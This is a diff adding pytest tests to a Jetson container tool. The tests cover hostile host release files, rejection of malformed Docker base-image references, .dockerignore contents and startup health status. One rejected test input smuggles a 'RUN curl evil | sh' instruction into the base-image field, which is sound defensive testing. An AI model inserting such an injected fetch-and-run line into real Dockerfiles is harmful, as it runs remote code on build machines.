@@ -209,3 +209,93 @@ def test_an_r39_entrypoint_refuses_the_other_family_by_its_soc(tmp_path: Path) -
     assert result.stderr.splitlines()[0] == (
         "error: this image is built for L4T R39, compute capability 11.0, and the host's GPU has compute capability 8.7 "
         "(its SoC tegra234, JETSON_INSTALL_HOST_SOC)")
+
+
+# -- images and entrypoints that cannot be steered ------------------------------------------
+
+def _orin_host_root(tmp_path: Path) -> Path:
+    root = tmp_path / "root"
+    shutil.copytree(BOARDS / "agx-orin-64gb-r36.4.3" / "proc", root / "proc")
+    (root / "etc").mkdir()
+    return root
+
+
+def test_a_hostile_host_release_file_is_no_release_and_never_hangs(tmp_path: Path) -> None:
+    root = _orin_host_root(tmp_path)
+    release = root / "etc" / "nv_tegra_release"
+    os.mkfifo(str(release))  # nobody writes it: a plain read() blocks forever
+    assert host_facts(root, {}).l4t is None
+    release.unlink()
+    with open(release, "wb") as handle:
+        handle.truncate(4 * 2**30)  # 4 GB of NULs: read whole, a MemoryError
+    assert host_facts(root, {}).l4t is None
+    release.unlink()
+    release.symlink_to("/dev/zero")  # never ends; and an absolute link stays inside the root
+    assert host_facts(root, {}).l4t is None
+    release.unlink()
+    shutil.copy(BOARDS / "agx-orin-64gb-r36.4.3" / "etc" / "nv_tegra_release", release)
+    assert str(host_facts(root, {}).l4t) == "36.4.3"
+
+
+@pytest.mark.parametrize("base", ["nvcr.io/nvidia/l4t-pytorch:r36.4.0\nRUN curl evil | sh", "img:1 AS x",
+                                  "${BASE_IMAGE}", "Registry.example/Torch:1", "img:-bad", "img@sha256:xyz", ""])
+def test_base_must_be_one_image_reference(base: str, tmp_path: Path) -> None:
+    result = cli("dockerfile", "--root", "sample:agx-orin-64gb-jp6.2", "--base", base,
+                 "--output", str(tmp_path / "Dockerfile"))
+    assert result.returncode == 2, result.stdout
+    lines = result.stderr.splitlines()
+    assert len(lines) == 2 and "is not an image reference" in lines[0]
+    assert lines[1].startswith("  fix: jetson-install dockerfile --base ")
+    assert not (tmp_path / "Dockerfile").exists()
+
+
+@pytest.mark.parametrize("base", ["ubuntu", "nvcr.io/nvidia/l4t-pytorch:r35.2.1-pth2.0-py3",
+                                  "localhost:5000/team/torch_build__x:1.0",
+                                  "dustynv/pytorch@sha256:" + "a" * 64, "[::1]:5000/torch:2"])
+def test_image_references_are_accepted_as_written(base: str) -> None:
+    result = cli("dockerfile", "--root", "sample:agx-orin-64gb-jp6.2", "--base", base)
+    assert result.returncode == 0, result.stderr
+    assert f"ARG BASE_IMAGE={base}\n" in result.stdout
+
+
+def test_the_build_context_holds_only_what_the_build_needs(tmp_path: Path) -> None:
+    from jetson_install.container import DOCKERIGNORE
+
+    result = cli("dockerfile", "--root", "sample:agx-orin-64gb-jp6.2", "--output", str(tmp_path / "Dockerfile"))
+    assert result.returncode == 0, result.stderr
+    assert (tmp_path / ".dockerignore").read_text() == DOCKERIGNORE
+    assert [line for line in DOCKERIGNORE.splitlines() if not line.startswith("#")] == [
+        "*", "!Dockerfile", "!jetson_install-*.whl", "!OBLITERATUS"]
+    assert "note:" not in result.stderr
+    # A user's own file is kept, and said.
+    (tmp_path / ".dockerignore").write_text("secrets/\n")
+    again = cli("dockerfile", "--root", "sample:agx-orin-64gb-jp6.2", "--output", str(tmp_path / "Dockerfile"))
+    assert again.returncode == 0 and (tmp_path / ".dockerignore").read_text() == "secrets/\n"
+    assert f"note: kept your {tmp_path / '.dockerignore'}" in again.stderr
+
+
+def test_the_healthcheck_waits_for_the_start_and_never_reads_an_old_pass() -> None:
+    text = cli("dockerfile", "--root", "sample:agx-orin-64gb-jp6.2").stdout
+    assert 'HEALTHCHECK --interval=5m --timeout=5s --start-period=10m CMD ["grep", "-qx", "passed",' in text
+
+
+def test_the_entrypoint_says_starting_while_its_doctor_runs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    from jetson_install import commands, container, doctor
+    from jetson_install.container import Start
+
+    status, evidence = tmp_path / "start-status", tmp_path / "start-evidence.json"
+    status.write_text("passed\n")  # the previous start's
+    evidence.write_text("{}")
+    monkeypatch.setattr(container, "START_STATUS", str(status))
+    monkeypatch.setattr(container, "START_EVIDENCE", str(evidence))
+    monkeypatch.setattr(container, "start_check", lambda environ: Start(None, None, None, L4T(36, 4, 3)))
+    seen = []
+
+    def doctor_that_looks(*args: object, **kwargs: object) -> object:
+        seen.append((status.read_text(), evidence.exists()))
+        raise KeyboardInterrupt  # a start killed while its doctor runs
+
+    monkeypatch.setattr(doctor, "run_doctor", doctor_that_looks)
+    with pytest.raises(KeyboardInterrupt):
+        commands.container_start(tmp_path / "venv", {})
+    assert seen == [("starting\n", False)] and status.read_text() == "starting\n"
